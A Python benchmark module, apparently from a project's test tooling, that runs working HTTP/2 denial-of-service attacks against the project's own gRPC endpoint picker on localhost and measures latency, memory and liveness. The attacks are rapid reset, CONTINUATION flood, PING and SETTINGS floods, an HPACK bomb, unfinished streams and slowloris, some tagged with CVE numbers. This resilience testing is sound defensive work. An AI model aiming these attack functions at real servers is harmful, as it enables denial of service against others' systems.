"""``kvroute bench h2-attacks``: the endpoint picker's HTTP/2 server under each attack class.

Three processes: one ``kvroute epp`` (its default limits, one instant stub endpoint); in this
process, a well-behaved gRPC client (gRPC's C core) on its ext_proc port, one call after
another: an ext_proc pick (``--probe pick``, the default: a request's headers and body in, the
pick's answer out) or the picker's gRPC health ``Check`` (``--probe health``); and, for each
attack class, an attacker process of its own (a raw HTTP/2 client written for it), started
before the round's windows and stopped after its attack. The issue's targets: the picker alive
and answering during and after every attack, the well-behaved client's p99 within twice its
baseline, memory growth under a stated bound per class.

Paired, interleaved rounds: ``--rounds`` times, each class in turn gets a baseline window (no
attack; its attacker already started and waiting) immediately followed by its attack window of
at least the same length (until the attacker says it is over). A class's ratio is the p99 of
all its attack windows' calls pooled over the p99 of all its baseline windows' calls pooled, so
the machine's load, which drifts over seconds on a shared box, weighs on both sides alike; the
per-round ratios' median is shown beside it. The control ``none`` runs the same way with an
attacker process that sends nothing: its ratio is the noise floor of the comparison. The
picker's RSS before and after each attack, and its CPU time during the windows (what the attack
cost the picker itself, its picks for the other client included: unlike latency, not the
machine's load).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import importlib
import os
import socket
import statistics
import struct
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Callable, Coroutine
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 0x4
# The attacker process's lines on stdout: loaded and waiting for the go, then its attack over.
READY, OVER = b"ready\n", b"over\n"
# Memory growth the picker may show after an attack (its limits hold far less; RSS moves with
# the allocator and the first use of code paths).
RSS_BOUND_MB = 32


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + stream_id.to_bytes(4, "big")
        + payload
    )


def _request_block() -> bytes:
    """Request headers as HPACK literals without indexing: the same bytes every time."""

    def literal(name: bytes, value: bytes) -> bytes:
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    return b"\x83\x86" + b"".join(  # :method POST, :scheme http
        literal(n, v)
        for n, v in (
            (b":path", PROCESS.encode()),
            (b":authority", b"picker"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


BLOCK = _request_block()


async def _connect(
    port: int, rcvbuf: int | None = None
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (HOST, port))
    return await asyncio.open_connection(sock=sock)


async def _send(writer: asyncio.StreamWriter, data: bytes) -> bool:
    """Write, and say whether the picker still takes it (False once it closed on us)."""
    try:
        writer.write(data)
        await writer.drain()
    except (ConnectionError, OSError):
        return False
    return True


async def _drain_reader(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError, OSError):
        while await reader.read(1 << 16):
            pass


async def streams_never_finished(port: int) -> None:
    """20,000 ext_proc streams opened on one connection and never finished."""
    reader, writer = await _connect(port)
    reading = asyncio.create_task(_drain_reader(reader))
    await _send(writer, PREFACE + frame(SETTINGS, 0, 0))
    for start in range(0, 20_000, 500):
        batch = b"".join(
            frame(HEADERS, END_HEADERS, 1 + 2 * i, BLOCK) for i in range(start, start + 500)
        )
        if not await _send(writer, batch):
            break
    await asyncio.wait_for(reading, 30)
    writer.close()


async def rapid_reset(port: int) -> None:
    """CVE-2023-44487: a stream opened and reset at once, 20,000 times."""
    reader, writer = await _connect(port)
    reading = asyncio.create_task(_drain_reader(reader))
    await _send(writer, PREFACE + frame(SETTINGS, 0, 0))
    cancel = struct.pack(">I", 8)
    for start in range(0, 20_000, 500):
        batch = b"".join(
            frame(HEADERS, END_HEADERS, 1 + 2 * i, BLOCK) + frame(RST_STREAM, 0, 1 + 2 * i, cancel)
            for i in range(start, start + 500)
        )
        if not await _send(writer, batch):
            break
    await asyncio.wait_for(reading, 30)
    writer.close()


async def continuation_flood(port: int) -> None:
    """CVE-2024-27316: one header block continued by 1 KB CONTINUATION frames, 10,000 of them."""
    reader, writer = await _connect(port)
    reading = asyncio.create_task(_drain_reader(reader))
    await _send(writer, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, BLOCK))
    for _ in range(100):
        if not await _send(writer, frame(CONTINUATION, 0, 1, b"\x00" * 1024) * 100):
            break
    await asyncio.wait_for(reading, 30)
    writer.close()


async def hpack_bomb(port: int) -> None:
    """A 4 KB header put in the HPACK table, then blocks naming it thousands of times."""
    reader, writer = await _connect(port)
    reading = asyncio.create_task(_drain_reader(reader))
    import hpack

    # A literal with incremental indexing and a new name: the same bytes for any table.
    entry = hpack.Encoder().encode([(b"bomb", b"v" * 4000)], huffman=False)
    await _send(
        writer, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, BLOCK + entry)
    )
    await _send(writer, frame(HEADERS, END_HEADERS, 3, b"\xbe" * 16_000))
    await asyncio.wait_for(reading, 30)
    writer.close()


async def _flood_unread(port: int, unit: bytes, total_bytes: int) -> None:
    """Frames that each ask for an answer, from a client that reads none of the answers."""
    _, writer = await _connect(port, rcvbuf=4096)
    cast(asyncio.Transport, writer.transport).pause_reading()
    await _send(writer, PREFACE + frame(SETTINGS, 0, 0))
    chunk = unit * ((1 << 16) // len(unit))
    sent = 0
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(5.0):  # the picker stops reading us: our writes stall
            while sent < total_bytes and await _send(writer, chunk):
                sent += len(chunk)
    writer.transport.abort()


async def ping_flood(port: int) -> None:
    """CVE-2019-9512: PINGs whose answers are never read."""
    await _flood_unread(port, frame(PING, 0, 0, b"12345678"), 64 << 20)


async def settings_flood(port: int) -> None:
    """CVE-2019-9515: SETTINGS whose acknowledgements are never read."""
    await _flood_unread(port, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), 64 << 20)


async def slowloris(port: int) -> None:
    """200 connections each sending half a preface, then nothing, held for 3 s."""
    writers = []
    for _ in range(200):
        _, writer = await _connect(port)
        writer.write(PREFACE[:12])
        writers.append(writer)
    await asyncio.sleep(3.0)  # the attack's own length: they hold their connections open
    for writer in writers:
        writer.transport.abort()


async def nothing(port: int) -> None:
    """The control: an attacker process that sends nothing (its window as long as its baseline)."""


# The control's name: always run, first, the noise floor of the comparison.
CONTROL = "none"

ATTACKS: dict[str, Callable[[int], Coroutine[Any, Any, None]]] = {
    CONTROL: nothing,
    "streams-20k": streams_never_finished,
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "slowloris": slowloris,
}
# Attacks that last a known time whatever the picker does: their baseline windows as long.
ATTACK_S = {"slowloris": 3.0}
TARGET_RATIO = 2.0
DEFAULT_ROUNDS = 10
DEFAULT_WINDOW_S = 1.0


@dataclass
class Probe:
    latencies_ms: list[float]
    failures: int
    cpu_s: float = float("nan")  # the picker's CPU over the calls (the baseline's)
    wall_s: float = float("nan")

    @property
    def p50(self) -> float:
        return statistics.median(self.latencies_ms) if self.latencies_ms else float("nan")

    @property
    def p99(self) -> float:
        return p99(self.latencies_ms)


def p99(latencies_ms: list[float]) -> float:
    if not latencies_ms:
        return float("nan")
    ordered = sorted(latencies_ms)
    return ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]


async def probe_until(
    port: int, done: Callable[[], bool], least_s: float, kind: str = "pick"
) -> Probe:
    """Calls one after another until ``done()`` and at least ``least_s`` passed: ext_proc picks
    (``kind`` "pick": one Process stream each, its request's headers and body sent, the pick's
    answer read) or health checks."""
    from grpc import aio

    latencies: list[float] = []
    failures = 0
    # A connection of its own for each window: gRPC shares one connection among channels to
    # the same target by default, and the picks' streams, each cancelled once answered (a client
    # reset before the stream ended, to the picker), would then run one connection through every
    # window at ~1,300 a second: past the picker's rapid-reset budget (1,000 a second, a burst
    # of 2,048), and it ends that connection (GOAWAY ENHANCE_YOUR_CALM) mid-window.
    options = [("grpc.use_local_subchannel_pool", 1)]
    async with aio.insecure_channel(f"{HOST}:{port}", options=options) as channel:
        call = _pick_call(channel) if kind == "pick" else _health_call(channel)
        await call()  # connected before the clock starts
        started = time.perf_counter()
        while not done() or time.perf_counter() - started < least_s:
            t0 = time.perf_counter()
            try:
                ok = await call()
            except aio.AioRpcError:
                ok = False
            if ok:
                latencies.append(1000 * (time.perf_counter() - t0))
            else:
                failures += 1
    return Probe(latencies, failures)


def _health_call(channel: Any) -> Callable[[], Coroutine[Any, Any, bool]]:
    from grpc_health.v1 import health_pb2

    check = channel.unary_unary(
        "/grpc.health.v1.Health/Check",
        request_serializer=health_pb2.HealthCheckRequest.SerializeToString,
        response_deserializer=health_pb2.HealthCheckResponse.FromString,
    )
    request = health_pb2.HealthCheckRequest(service="liveness")

    async def call() -> bool:
        reply = await check(request, timeout=5)
        return bool(reply.status == health_pb2.HealthCheckResponse.SERVING)

    return call


def _pick_call(channel: Any) -> Callable[[], Coroutine[Any, Any, bool]]:
    """One ext_proc pick as Envoy asks it (full duplex): ok when it names the endpoint."""
    from envoy.config.core.v3 import base_pb2
    from envoy.extensions.filters.http.ext_proc.v3 import processing_mode_pb2
    from envoy.service.ext_proc.v3 import external_processor_pb2 as ep

    process = channel.stream_stream(
        PROCESS,
        request_serializer=ep.ProcessingRequest.SerializeToString,
        response_deserializer=ep.ProcessingResponse.FromString,
    )
    body = b'{"model": "stub-model", "prompt": "Say ok, eight times.", "max_tokens": 8}'
    headers = [(":path", "/v1/completions"), (":method", "POST"),
               ("content-type", "application/json")]  # fmt: skip
    mode = processing_mode_pb2.ProcessingMode.FULL_DUPLEX_STREAMED
    messages = (
        ep.ProcessingRequest(
            request_headers=ep.HttpHeaders(
                headers=base_pb2.HeaderMap(
                    headers=[base_pb2.HeaderValue(key=k, raw_value=v.encode()) for k, v in headers]
                )
            ),
            protocol_config=ep.ProtocolConfiguration(request_body_mode=mode),
        ),
        ep.ProcessingRequest(request_body=ep.HttpBody(body=body, end_of_stream=True)),
    )

    async def call() -> bool:
        stream = process(timeout=5)
        for message in messages:
            await stream.write(message)
        answer = await stream.read()
        stream.cancel()
        return bool(answer.WhichOneof("response") == "request_headers")

    return call


def cpu_s(pid: int) -> float:
    """The process's CPU time so far (user + system): what an attack costs the picker
    itself, whatever else the machine runs (its latency shows the machine's load too)."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


@dataclass
class Round:
    """One round of one class: its baseline window, then its attack window."""

    baseline: Probe
    attack: Probe
    rss_before: float  # the picker's, just before the attack window
    rss_after: float  # after the attacker exited and the picker answered again
    alive: bool

    @property
    def ratio(self) -> float:
        return _ratio(self.attack.p99, self.baseline.p99)


@dataclass
class Outcome:
    """A class's rounds, pooled."""

    name: str
    rounds: list[Round]

    def _pool(self, side: str) -> Probe:
        probes = [getattr(r, side) for r in self.rounds]
        return Probe(
            [x for probe in probes for x in probe.latencies_ms],
            sum(probe.failures for probe in probes),
            sum(probe.cpu_s for probe in probes),
            sum(probe.wall_s for probe in probes),
        )

    @property
    def baseline(self) -> Probe:
        return self._pool("baseline")

    @property
    def attack(self) -> Probe:
        return self._pool("attack")

    @property
    def ratio(self) -> float:
        """The attack windows' pooled p99 over the baseline windows' pooled p99."""
        return _ratio(self.attack.p99, self.baseline.p99)

    @property
    def round_ratios(self) -> list[float]:
        return [r.ratio for r in self.rounds]

    @property
    def alive(self) -> bool:
        return all(r.alive for r in self.rounds)

    @property
    def grown_mb(self) -> float:
        """The most the picker's RSS grew over one of this class's attacks."""
        return max(r.rss_after - r.rss_before for r in self.rounds)


def _ratio(value: float, base: float) -> float:
    return value / base if base > 0 else float("nan")


def attacker_argv(name: str, port: int) -> list[str]:
    """The command of one attack's own process (``attacker_main`` below)."""
    return [sys.executable, "-m", "kvroute.bench.h2_attacks", name, str(port)]


def attacker_main(argv: list[str]) -> int:
    """One attack in a process of its own: loaded, it says READY and waits for a line on stdin
    (so its start-up falls outside the window), attacks, says OVER and exits."""
    name, port = argv[0], int(argv[1])
    importlib.import_module("hpack")  # the HPACK bomb's encoder, loaded before the window
    _say(READY)
    sys.stdin.readline()
    with contextlib.suppress(Exception):  # a cut connection is the picker defending itself
        asyncio.run(ATTACKS[name](port))
    _say(OVER)
    return 0


def _say(line: bytes) -> None:
    sys.stdout.buffer.write(line)
    sys.stdout.buffer.flush()


@contextlib.asynccontextmanager
async def attacker(name: str, port: int) -> AsyncIterator[asyncio.subprocess.Process]:
    """The attack's process, started and READY; killed on the way out if it has not exited."""
    proc = await asyncio.create_subprocess_exec(
        *attacker_argv(name, port), stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
    )
    try:
        assert proc.stdout is not None
        line = await asyncio.wait_for(proc.stdout.readline(), 60)
        if line != READY:
            raise RuntimeError(f"the {name} attacker did not start (it said {line!r})")
        yield proc
    finally:
        if proc.returncode is None:
            with contextlib.suppress(ProcessLookupError):
                proc.kill()
            await proc.wait()


async def attack_window(
    proc: asyncio.subprocess.Process, port: int, kind: str, least_s: float
) -> Probe:
    """Tell the READY attacker to go, and call the picker until it says OVER (and at least
    ``least_s`` passed)."""
    assert proc.stdin is not None and proc.stdout is not None
    proc.stdin.write(b"go\n")
    await proc.stdin.drain()
    over = asyncio.create_task(proc.stdout.readline())
    probe = await probe_until(port, over.done, least_s, kind)
    await over
    return probe


async def _window(pid: int, calls: Coroutine[Any, Any, Probe]) -> Probe:
    """A window's calls, with the picker's CPU time and the wall time they took."""
    cpu, wall = cpu_s(pid), time.perf_counter()
    probe = await calls
    probe.cpu_s, probe.wall_s = cpu_s(pid) - cpu, time.perf_counter() - wall
    return probe


async def one_round(port: int, pid: int, name: str, window_s: float, kind: str) -> Round:
    """The attacker started and READY; a baseline window; at once its attack window, at least
    as long; the attacker gone; then the picker asked again (alive after it)."""
    least_s = max(window_s, ATTACK_S.get(name, 0.0))
    async with attacker(name, port) as proc:
        baseline = await _window(pid, probe_until(port, lambda: True, least_s, kind))
        before = rss_mb(pid)
        attack = await _window(pid, attack_window(proc, port, kind, least_s))
        await asyncio.wait_for(proc.wait(), 30)
    after_probe = await probe_until(port, lambda: True, 0.2, kind)  # answered after it
    alive = after_probe.failures == 0 and bool(after_probe.latencies_ms)
    return Round(baseline, attack, before, rss_mb(pid), alive)


async def run(
    port: int, pid: int, names: list[str], window_s: float, kind: str = "pick", rounds: int = 5
) -> list[Outcome]:
    """``rounds`` rounds; in each, every class in turn (``one_round``): a drift in the machine's
    load falls on every class and on both windows of a pair."""
    await probe_until(port, lambda: True, 0.5, kind)  # warm: the picker's first picks, uncounted
    outcomes = [Outcome(name, []) for name in names]
    for _ in range(rounds):
        for outcome in outcomes:
            outcome.rounds.append(await one_round(port, pid, outcome.name, window_s, kind))
    return outcomes


def _x(ratio: float) -> str:
    return f"{ratio:.2f}x"


def report(
    outcomes: list[Outcome],
    command: str,
    kind: str = "pick",
    head: tuple[str, ...] = (),
    window_s: float = 1.0,
) -> tuple[str, bool]:
    """The table (the control first) and the verdicts; ok when every class's calls all
    succeeded, the picker answered after every attack and its RSS grew within the bound."""
    what = "ext_proc pick" if kind == "pick" else "health Check"
    rounds = len(outcomes[0].rounds) if outcomes else 0
    held = ", ".join(f"{o.name} {ATTACK_S[o.name]:g} s" for o in outcomes if o.name in ATTACK_S)
    held = f" ({held})" if held else ""
    lines = [
        *head,
        f"probe: {what}, one call after another; {rounds} rounds, each class in turn: a baseline "
        f"window of {window_s:g} s{held}, "
        "then at once its attack window, at least as long",
        "",
        "| attack | calls baseline / during | failed | p50 ms baseline / during "
        "| p99 ms baseline / during | p99 during / baseline, pooled | per-round ratios: median "
        "(min-max) | within 2x | picker CPU s / wall s, baseline / during "
        "| RSS MB before -> after (most grown) | alive after |",
        "|---|---|---|---|---|---|---|---|---|---|---|",
    ]
    ok = True
    for o in outcomes:
        base, hit = o.baseline, o.attack
        ratios = o.round_ratios
        ok = ok and o.alive and base.failures == 0 and hit.failures == 0
        ok = ok and o.grown_mb <= RSS_BOUND_MB
        label = f"{o.name} (control: no attack)" if o.name == CONTROL else o.name
        within = "yes" if o.ratio <= TARGET_RATIO else "NO"
        lines.append(
            f"| {label} | {len(base.latencies_ms)} / {len(hit.latencies_ms)} "
            f"| {base.failures + hit.failures} | {base.p50:.2f} / {hit.p50:.2f} "
            f"| {base.p99:.2f} / {hit.p99:.2f} | {_x(o.ratio)} "
            f"| {_x(statistics.median(ratios))} ({_x(min(ratios))}-{_x(max(ratios))}) "
            f"| {within} | {base.cpu_s:.2f} / {base.wall_s:.1f}, {hit.cpu_s:.2f} / "
            f"{hit.wall_s:.1f} | {o.rounds[0].rss_before:.0f} -> {o.rounds[-1].rss_after:.0f} "
            f"({o.grown_mb:+.0f}) | {'yes' if o.alive else 'NO'} |"
        )
    lines += ["", "Per-round ratios, round 1 first:", ""]
    lines += [f"- {o.name}: {' '.join(_x(r) for r in o.round_ratios)}" for o in outcomes]
    attacks = [o for o in outcomes if o.name != CONTROL]
    missed = [o for o in attacks if not o.ratio <= TARGET_RATIO]
    control = next((o for o in outcomes if o.name == CONTROL), None)
    verdict = (
        f"p99 within {TARGET_RATIO:g}x its baseline (pooled): {len(attacks) - len(missed)} of "
        f"{len(attacks)} attack classes"
        + (
            "; missed: " + ", ".join(f"{o.name} {_x(o.ratio)}" for o in missed)
            if missed
            else ": met in every class"
        )
    )
    if control is not None:
        verdict += f". The control (no attack): {_x(control.ratio)}"
    lines += [
        "",
        verdict + ".",
        "",
        "Each attack ran in a process of its own, started before its round's baseline window "
        "(waiting, sending nothing) and stopped after its attack window; the picker and this "
        "client in theirs. A class's ratio pools all its rounds' calls: the p99 of its attack "
        "windows' calls over the p99 of its baseline windows' calls; each round's ratio is its "
        "attack window's p99 over the baseline window just before it. The control `none` is "
        "measured the same way with an attacker that sends nothing: how far the ratio moves "
        "with no attack on this machine at this load. RSS is read just before each attack "
        "window and after the attacker exited; the bound is on the most grown over one attack "
        f"({RSS_BOUND_MB} MB).",
        "",
        f"Reproduce: `{command}`",
    ]
    return "\n".join(lines), ok


def _cmd(args: argparse.Namespace) -> int:
    from kvroute.backends.process import free_ports
    from kvroute.bench.epp import picker_argv, wait_serving
    from kvroute.bench.harness import processes
    from kvroute.bench.harness.fleet import stub_argv
    from kvroute.bench.harness.host import (
        kvroute_version,
        machine_line,
        python_version,
        utc_stamp,
    )

    names = (
        [n for n in ATTACKS if n != CONTROL] if args.attacks == "all" else args.attacks.split(",")
    )
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        print(f"kvroute bench h2-attacks: unknown attack(s) {', '.join(unknown)}; choose from "
              f"{', '.join(ATTACKS)} or all", file=sys.stderr)  # fmt: skip
        return 2
    names = [CONTROL, *(n for n in names if n != CONTROL)]  # the control always, first
    *ports, stub_port = free_ports(4)
    # One instant stub endpoint: the picks have a healthy replica to name.
    argv = picker_argv([f"http://{HOST}:{stub_port}"], ports, "builtin", None)
    command = (
        "kvroute bench h2-attacks"
        + (f" --attacks {args.attacks}" if args.attacks != "all" else "")
        + (f" --probe {args.probe}" if args.probe != "pick" else "")
        + (f" --rounds {args.rounds}" if args.rounds != DEFAULT_ROUNDS else "")
        + (f" --baseline-s {args.baseline_s:g}" if args.baseline_s != DEFAULT_WINDOW_S else "")
    )
    head = (
        f"started: {utc_stamp()}",
        f"machine: {machine_line()}",
        f"versions: {kvroute_version()}, {python_version()}",
    )
    with contextlib.ExitStack() as stack:
        logs = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        stack.enter_context(processes.managed("stub", stub_argv(stub_port, "stub-model"), logs))
        child = stack.enter_context(processes.managed("epp", argv, logs))
        wait_serving(child, ports[1], 60.0)
        outcomes = asyncio.run(
            run(ports[0], child.popen.pid, names, args.baseline_s, args.probe, args.rounds)
        )
    text, ok = report(outcomes, command, args.probe, head, args.baseline_s)
    print(text)
    return 0 if ok else 1


def _positive_int(text: str) -> int:
    try:
        value = int(text)
    except ValueError:
        value = 0
    if value < 1:
        raise argparse.ArgumentTypeError(f"must be a whole number >= 1, got {text!r}")
    return value


def _positive_seconds(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        value = float("nan")
    if not 0 < value < float("inf"):
        raise argparse.ArgumentTypeError(f"must be a number of seconds > 0, got {text!r}")
    return value


def add_h2_attacks_bench(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
    p = sub.add_parser(
        "h2-attacks",
        help="The endpoint picker's HTTP/2 server under each attack class: alive, another "
        "client's latency, memory.",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    p.add_argument(
        "--attacks",
        default="all",
        help=f"comma-separated, from: {', '.join(ATTACKS)} (default: all; the control "
        f"{CONTROL!r}, no attack, always runs)",
    )
    p.add_argument(
        "--baseline-s",
        type=_positive_seconds,
        default=DEFAULT_WINDOW_S,
        help="seconds of each round's baseline window, and the least of its attack window "
        f"(default {DEFAULT_WINDOW_S:g}; slowloris's are as long as its attack, 3 s)",
    )
    p.add_argument(
        "--rounds",
        type=_positive_int,
        default=DEFAULT_ROUNDS,
        help="paired rounds per class, interleaved: a baseline window, then at once the attack "
        f"window (default {DEFAULT_ROUNDS})",
    )
    p.add_argument(
        "--probe",
        choices=("pick", "health"),
        default="pick",
        help="what the well-behaved client asks, one call after another: an ext_proc pick "
        "(default: a request's headers and body, the pick's answer) or the gRPC health Check",
    )
    p.set_defaults(func=_cmd)


if __name__ == "__main__":
    sys.exit(attacker_main(sys.argv[1:]))
